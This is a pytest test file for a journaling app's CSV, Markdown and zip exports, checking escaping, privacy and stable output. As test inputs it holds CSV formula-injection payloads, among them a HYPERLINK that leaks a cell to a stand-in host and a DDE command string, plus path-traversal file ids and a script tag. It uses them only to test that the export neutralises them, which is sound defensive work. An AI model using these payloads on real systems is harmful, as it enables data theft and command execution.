"""Readable exports: the CSV for spreadsheets (safe to open), Markdown to read, and the zip of one file per entry."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import uuid
import zipfile
from collections.abc import Callable
from datetime import date, datetime

import pytest

from journal.accounts import User
from journal.clock import utcnow
from journal.content.library import Library
from journal.portability import readable as exports
from journal.reflect import entries
from journal.reflect.entries import Entry, EntryInput
from journal.store import Database
from journal.store import entries as entries_repo

ONE_TO_ONE = {"who": "Sam", "common_ground": "We both cycle in.", "agreed": "Coffee on Friday."}
INJECTIONS = ['=HYPERLINK("https://e.vil/?"&A1,"x")', "+1", "-2", "@SUM(A1)", "\t=1"]  # each fits in a tag
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Characters YAML refuses, or reads as line breaks: none may be left raw in a front-matter value.
NOT_YAML_PRINTABLE = re.compile(
    "[^\t\n\r\x20-\x7e\xa0-\u2027\u202a-\ud7ff\ue000-\ufefe\uff00-\ufffd\U00010000-\U0010ffff]"
)
ZIP_NAME = re.compile(r"harbour-journal/\d{4}-\d{2}-\d{2}-[a-z0-9]+(?:-[a-z0-9]+)*\.md")


def _save(db: Database, person: User, lib: Library, template: str = "free", **fields: object) -> Entry:
    answers = fields.pop("answers", {"text": "Some words."})
    inp = EntryInput(template, answers, **fields)  # type: ignore[arg-type]
    return entries.save_new(db, person.id, str(uuid.uuid4()), inp, lib).entry


def _insert(db: Database, person: User, **fields: object) -> None:
    """A row as an importer would write it: a time zone and source from another app's file."""
    now = utcnow()
    row = entries_repo.Entry(
        id=str(uuid.uuid4()),
        user_id=person.id,
        template="free",
        theme=None,
        prompt_id=None,
        prompt_text=None,
        answers={"text": "imported words"},
        body="imported words",
        mood=None,
        energy=None,
        is_win=False,
        polarity=0.0,
        subjectivity=0.0,
        entry_date=date(2024, 7, 1),
        created_at=now,
        updated_at=now,
        deleted_at=None,
        revision=1,
        source="daylio",
    )
    entries_repo.insert(db, dataclasses.replace(row, **fields))


def _rows(db: Database, person: User, lib: Library) -> list[dict[str, str]]:
    text = exports.export_csv(db, person.id, lib)
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == exports.CSV_COLUMNS
    return list(reader)


def _front_matter(block: str) -> dict[str, object]:
    """Parse a front-matter block the way the export promises: every line `key: <JSON>`, so YAML reads it too."""
    values: dict[str, object] = {}
    for line in block.split("\n"):
        key, sep, raw = line.partition(": ")
        assert sep and re.fullmatch(r"[a-z_]+", key), line
        assert not NOT_YAML_PRINTABLE.search(raw), f"{key} holds a character YAML can't take raw: {raw!r}"
        values[key] = json.loads(raw)
    return values


def _file(text: str) -> tuple[dict[str, object], str]:
    """One zipped entry: its front matter (which must open the file) and what follows it."""
    assert text.startswith("---\n")
    block, sep, rest = text[4:].partition("\n---\n")
    assert sep
    return _front_matter(block), rest


def _zip(db: Database, person: User, lib: Library) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(exports.export_markdown_zip(db, person.id, lib))) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


# -- CSV ----------------------------------------------------------------------
def test_csv_has_one_row_per_entry_with_scores_and_metadata_but_no_words(
    db: Database, user: User, lib: Library
) -> None:
    entry = _save(
        db,
        user,
        lib,
        "one_to_one",
        answers=ONE_TO_ONE,
        theme="connection",
        mood=3,
        energy=4,
        tags=["team", "rest"],
        is_win=True,
        entry_date=date(2024, 3, 1),
    )
    [row] = _rows(db, user, lib)
    assert row == {
        "date": "2024-03-01",
        "time": f"{entry.created_at:%H:%M}",  # stored in UTC, and labelled so
        "time_zone": "UTC",
        "template": "After a 1-to-1",
        "theme": "Connection and 1-to-1s",
        "mood": "3",
        "mood_label": "Okay",
        "energy": "4",
        "energy_label": "Steady",
        "win": "yes",
        "tags": "rest; team",
        "words": str(len(entry.body.split())),
        "tone": f"{entry.polarity:.2f}",
        "subjectivity": f"{entry.subjectivity:.2f}",
        "source": "harbour",
    }
    text = exports.export_csv(db, user.id, lib)
    assert "Sam" not in text and "cycle" not in text and "Coffee" not in text
    assert text.endswith("\r\n")


def test_csv_leaves_blank_what_was_not_recorded(db: Database, user: User, lib: Library) -> None:
    _save(db, user, lib, "checkin", answers={}, mood=1, entry_date=date(2024, 1, 2))
    [row] = _rows(db, user, lib)
    assert row["mood"] == "1" and row["mood_label"] == "Really low"
    assert row["energy"] == row["energy_label"] == row["theme"] == row["tags"] == ""
    assert row["tone"] == row["subjectivity"] == ""  # no words, so no tone: blank, not 0
    assert row["words"] == "0" and row["win"] == "no"


def test_csv_is_oldest_first(db: Database, user: User, lib: Library) -> None:
    for day in (date(2024, 5, 1), date(2023, 1, 9), date(2024, 2, 29)):
        _save(db, user, lib, entry_date=day)
    assert [r["date"] for r in _rows(db, user, lib)] == ["2023-01-09", "2024-02-29", "2024-05-01"]


@pytest.mark.parametrize("tag", INJECTIONS)
def test_a_tag_that_could_start_a_formula_is_written_as_text(db: Database, user: User, lib: Library, tag: str) -> None:
    entry = _save(db, user, lib, tags=[tag])
    [stored] = entry.tags  # "\t=1" is stored as "=1": a tag is one line of single spaces
    [row] = _rows(db, user, lib)
    assert row["tags"] == "'" + stored


def test_every_tag_in_a_cell_is_guarded_not_only_the_first(db: Database, user: User, lib: Library) -> None:
    # Excel splits on ";" where that is the list separator, so each tag could become a cell of its own.
    _save(db, user, lib, tags=["1st", "=cmd|' /C calc'!A0", "ok;+1"])
    [row] = _rows(db, user, lib)
    assert row["tags"] == "1st; '=cmd|' /C calc'!A0; ok;'+1"


def test_text_from_an_imported_file_is_guarded_in_every_column(db: Database, user: User, lib: Library) -> None:
    _insert(db, user, time_zone="\t=1+1", source="-2+3")
    _insert(db, user, time_zone="  @SUM(A1)", source="\r=1")
    rows = _rows(db, user, lib)
    assert [(r["time"], r["time_zone"], r["source"]) for r in rows] == [
        ("", "'\t=1+1", "'-2+3"),
        ("", "'  @SUM(A1)", "'\r=1"),
    ]
    numeric = {"mood", "energy", "words", "tone", "subjectivity"}
    for row in rows:
        for column, cell in row.items():
            assert column in numeric or not cell.startswith(FORMULA_START), (column, cell)


def test_a_negative_tone_stays_a_number(db: Database, user: User, lib: Library) -> None:
    entry = _save(db, user, lib, answers={"text": "This is terrible, awful and sad."})
    assert entry.polarity is not None and entry.polarity < 0
    [row] = _rows(db, user, lib)
    assert row["tone"] == f"{entry.polarity:.2f}" and float(row["tone"]) < 0


def test_commas_quotes_and_line_breaks_survive_a_csv_read_back(db: Database, user: User, lib: Library) -> None:
    odd = dataclasses.replace(lib.template("free"), name='Notes, "quick"\nand dirty')
    custom = dataclasses.replace(lib, templates=tuple(odd if t.id == "free" else t for t in lib.templates))
    _save(db, user, custom, theme="boundaries", tags=['"quoted" tag', "semi;colon"])
    [row] = _rows(db, user, custom)
    assert row["template"] == 'Notes, "quick"\nand dirty'
    assert row["theme"] == "Boundaries, rest and burnout"
    assert row["tags"] == '"quoted" tag; semi;colon'


def test_imported_times_are_given_on_the_clock_of_their_time_zone(db: Database, user: User, lib: Library) -> None:
    _insert(db, user, time_zone="Europe/London", created_at=datetime(2024, 7, 1, 8, 30), entry_date=date(2024, 7, 1))
    _insert(db, user, time_zone="+05:30", created_at=datetime(2024, 7, 2, 8, 30), entry_date=date(2024, 7, 2))
    _insert(
        db, user, time_zone="Mars/Olympus_Mons", created_at=datetime(2024, 7, 3, 8, 30), entry_date=date(2024, 7, 3)
    )
    rows = _rows(db, user, lib)
    assert [(r["time"], r["time_zone"]) for r in rows] == [
        ("09:30", "Europe/London"),  # British Summer Time
        ("14:00", "UTC+05:30"),
        ("", "Mars/Olympus_Mons"),  # a zone nobody can read: no guessed time
    ]


def test_a_zone_name_that_is_a_folder_of_zones_exports_with_no_time(db: Database, user: User, lib: Library) -> None:
    # A Harbour JSON can carry any zone name; "America" is a folder in the zone database and used to raise.
    _insert(db, user, time_zone="America", created_at=datetime(2024, 7, 3, 8, 30), entry_date=date(2024, 7, 3))
    assert [(r["time"], r["time_zone"]) for r in _rows(db, user, lib)] == [("", "America")]
    assert "imported words" in exports.export_markdown(db, user.id, lib)


def test_csv_bytes_carry_a_byte_order_mark_for_excel(db: Database, user: User, lib: Library) -> None:
    _save(db, user, lib, tags=["🙂", "עבודה"])
    data = exports.export_csv_bytes(db, user.id, lib)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == exports.export_csv(db, user.id, lib)
    assert "עבודה; 🙂" in data.decode("utf-8-sig")


# -- whose entries, and the trash ---------------------------------------------
def test_another_persons_entries_never_appear(
    db: Database, user: User, make_user: Callable[..., User], lib: Library
) -> None:
    other = make_user("sam")
    _save(db, other, lib, answers={"text": "Sam's private words"}, tags=["sams-tag"], entry_date=date(2024, 1, 1))
    _save(db, user, lib, answers={"text": "Alex's words"}, entry_date=date(2024, 1, 2))
    assert [r["date"] for r in _rows(db, user, lib)] == ["2024-01-02"]
    for text in (exports.export_csv(db, user.id, lib), exports.export_markdown(db, user.id, lib)):
        assert "sams-tag" not in text and "private" not in text
    files = _zip(db, user, lib)
    assert len(files) == 2  # the README and Alex's one entry
    assert not any("private" in text or "sams-tag" in text for text in files.values())
    assert "Alex's words" in exports.export_markdown(db, user.id, lib)


def test_entries_in_the_trash_are_left_out_and_the_markdown_says_so(db: Database, user: User, lib: Library) -> None:
    _save(db, user, lib, answers={"text": "still here"}, entry_date=date(2024, 1, 1))
    for text in ("thrown away", "also thrown away"):
        entries.trash(db, user.id, _save(db, user, lib, answers={"text": text}, entry_date=date(2024, 1, 2)).id)
    assert [r["date"] for r in _rows(db, user, lib)] == ["2024-01-01"]
    document = exports.export_markdown(db, user.id, lib)
    assert "still here" in document and "thrown away" not in document
    assert "1 entry, oldest first." in document
    assert "2 entries are in the trash and left out here; the JSON export keeps them." in document
    files = _zip(db, user, lib)
    assert len(files) == 2 and not any("thrown away" in t for t in files.values())
    assert "2 entries are in the trash" in files["harbour-journal/README.md"]


# -- Markdown -----------------------------------------------------------------
def test_markdown_is_one_document_of_front_matter_and_answers_as_written(
    db: Database, user: User, lib: Library
) -> None:
    prompt = lib.prompts[0]
    words = "🙂🌊 a good day — שלום עליכם <script>alert(1)</script> **bold** &amp;\nline two"
    _save(
        db,
        user,
        lib,
        "one_to_one",
        answers={**ONE_TO_ONE, "prompt": words},
        prompt_id=prompt.id,
        prompt_text=prompt.text,
        theme="connection",
        mood=4,
        energy=2,
        tags=["team"],
        is_win=True,
        entry_date=date(2024, 3, 2),
    )
    _save(db, user, lib, "checkin", answers={}, mood=2, entry_date=date(2024, 3, 1))
    document = exports.export_markdown(db, user.id, lib)
    assert document.startswith("# Harbour journal\n\nExported ")
    assert " by alex · 2 entries, oldest first.\n" in document
    blocks = [_front_matter(b) for b in re.findall(r"^---\n(.*?)\n---$", document, flags=re.M | re.S)]
    assert blocks == [
        {
            "date": "2024-03-01",
            "template": "Quick check-in",
            "theme": None,
            "mood": "2 · A bit low",
            "mood_level": 2,
            "energy": "not recorded",
            "energy_level": None,
            "tags": [],
            "win": False,
            "source": "harbour",
        },
        {
            "date": "2024-03-02",
            "template": "After a 1-to-1",
            "theme": "Connection and 1-to-1s",
            "mood": "4 · Good",
            "mood_level": 4,
            "energy": "2 · Running low",
            "energy_level": 2,
            "tags": ["team"],
            "win": True,
            "source": "harbour",
        },
    ]
    assert "\n## 2024-03-02 · After a 1-to-1\n" in document
    assert "\n### Who did you meet?\n\nSam\n" in document
    assert f"\n### Prompt: {prompt.text}\n\n{words}\n" in document  # nothing escaped: it's a file, not a page
    assert "&lt;" not in document and "\\*" not in document


def test_front_matter_stays_valid_whatever_the_tags_say(db: Database, user: User, lib: Library) -> None:
    tags = ["key: value", '"quoted"', "# not a comment", "- not a list", "[x]", "{a: b}", "*alias", "&anchor", "!tag"]
    tags += ["| block", "> fold", "yes", "null", "012", "…\u00a0nbsp\u2028ls", "🙂", "עבודה"]
    entry = _save(db, user, lib, tags=tags, entry_date=date(2024, 4, 1))
    [text] = [t for n, t in _zip(db, user, lib).items() if not n.endswith("README.md")]
    values, _ = _file(text)
    assert values["tags"] == list(entry.tags)
    assert len(entry.tags) == len(tags)  # none lost on the way in, so every one was checked on the way out


def test_front_matter_escapes_characters_yaml_would_misread(db: Database, user: User, lib: Library) -> None:
    _insert(db, user, time_zone="Zone\u2028with\x85breaks\x7f", source="daylio")
    [text] = [t for n, t in _zip(db, user, lib).items() if not n.endswith("README.md")]
    values, _ = _file(text)
    assert values["time_zone"] == "Zone\u2028with\x85breaks\x7f"
    assert values["source"] == "daylio"


# -- the zip ------------------------------------------------------------------
def test_the_zip_reads_back_one_file_per_entry_with_front_matter_heading_and_answers(
    db: Database, user: User, lib: Library
) -> None:
    entry = _save(
        db,
        user,
        lib,
        "one_to_one",
        answers=ONE_TO_ONE,
        mood=5,
        tags=["team"],
        entry_date=date(2024, 3, 1),
    )
    _insert(db, user, time_zone="Europe/London", entry_date=date(2024, 3, 4))
    files = _zip(db, user, lib)
    assert sorted(files) == [
        "harbour-journal/2024-03-01-after-a-1-to-1-" + entry.id[:8] + ".md",
        *sorted(n for n in files if n.startswith("harbour-journal/2024-03-04-free-writing-")),
        "harbour-journal/README.md",
    ]
    values, rest = _file(files[f"harbour-journal/2024-03-01-after-a-1-to-1-{entry.id[:8]}.md"])
    assert values["template"] == "After a 1-to-1" and values["mood"] == "5 · Really good"
    assert values["tags"] == ["team"] and values["win"] is False and "time_zone" not in values
    assert rest.startswith("\n# 2024-03-01 · After a 1-to-1\n\n## Who did you meet?\n\nSam\n")
    assert "\n## What did you agree?\n\nCoffee on Friday.\n" in rest
    [imported] = [t for n, t in files.items() if "free-writing" in n]
    assert _file(imported)[0]["time_zone"] == "Europe/London"
    assert "2 entries from Harbour, written by alex." in files["harbour-journal/README.md"]


def test_zip_names_are_safe_and_never_repeat(db: Database, user: User, lib: Library) -> None:
    day = date(2024, 3, 1)
    for _ in range(2):  # two of one kind on one day
        _save(db, user, lib, "one_to_one", answers=ONE_TO_ONE, entry_date=day)
    # Ids that start alike, and ids that look like paths: the name must still be unique and stay in its folder.
    for entry_id in ("aaaaaaaa-1", "aaaaaaaa-2", "../../../etc/passwd", "C:\\Windows\\evil", "ÿ/..", "☃☃☃"):
        entries.save_new(db, user.id, entry_id, EntryInput("one_to_one", ONE_TO_ONE, entry_date=day), lib)
    names = [n for n in _zip(db, user, lib) if not n.endswith("README.md")]
    assert len(names) == len(set(names)) == 8
    for name in names:
        assert name.isascii() and ZIP_NAME.fullmatch(name), name
        assert name.startswith("harbour-journal/2024-03-01-after-a-1-to-1")
    assert "harbour-journal/2024-03-01-after-a-1-to-1-aaaaaaaa.md" in names
    assert "harbour-journal/2024-03-01-after-a-1-to-1-aaaaaaaa-2.md" in names
    assert "harbour-journal/2024-03-01-after-a-1-to-1.md" in names  # an id with no letters or digits


def test_the_zip_is_the_same_bytes_each_time_stamped_with_entry_dates(db: Database, user: User, lib: Library) -> None:
    _save(db, user, lib, entry_date=date(2023, 6, 5))
    _save(db, user, lib, entry_date=date(2024, 2, 29))
    first = exports.export_markdown_zip(db, user.id, lib)
    assert exports.export_markdown_zip(db, user.id, lib) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        stamps = {i.filename.split("/")[-1][:10]: i.date_time for i in archive.infolist()}
    assert stamps == {
        "2023-06-05": (2023, 6, 5, 0, 0, 0),
        "2024-02-29": (2024, 2, 29, 0, 0, 0),
        "README.md": (2024, 2, 29, 0, 0, 0),
    }


def test_an_empty_journal_exports_headers_and_a_readme(db: Database, user: User, lib: Library) -> None:
    assert exports.export_csv(db, user.id, lib) == ",".join(exports.CSV_COLUMNS) + "\r\n"
    assert "0 entries, oldest first." in exports.export_markdown(db, user.id, lib)
    assert list(_zip(db, user, lib)) == ["harbour-journal/README.md"]
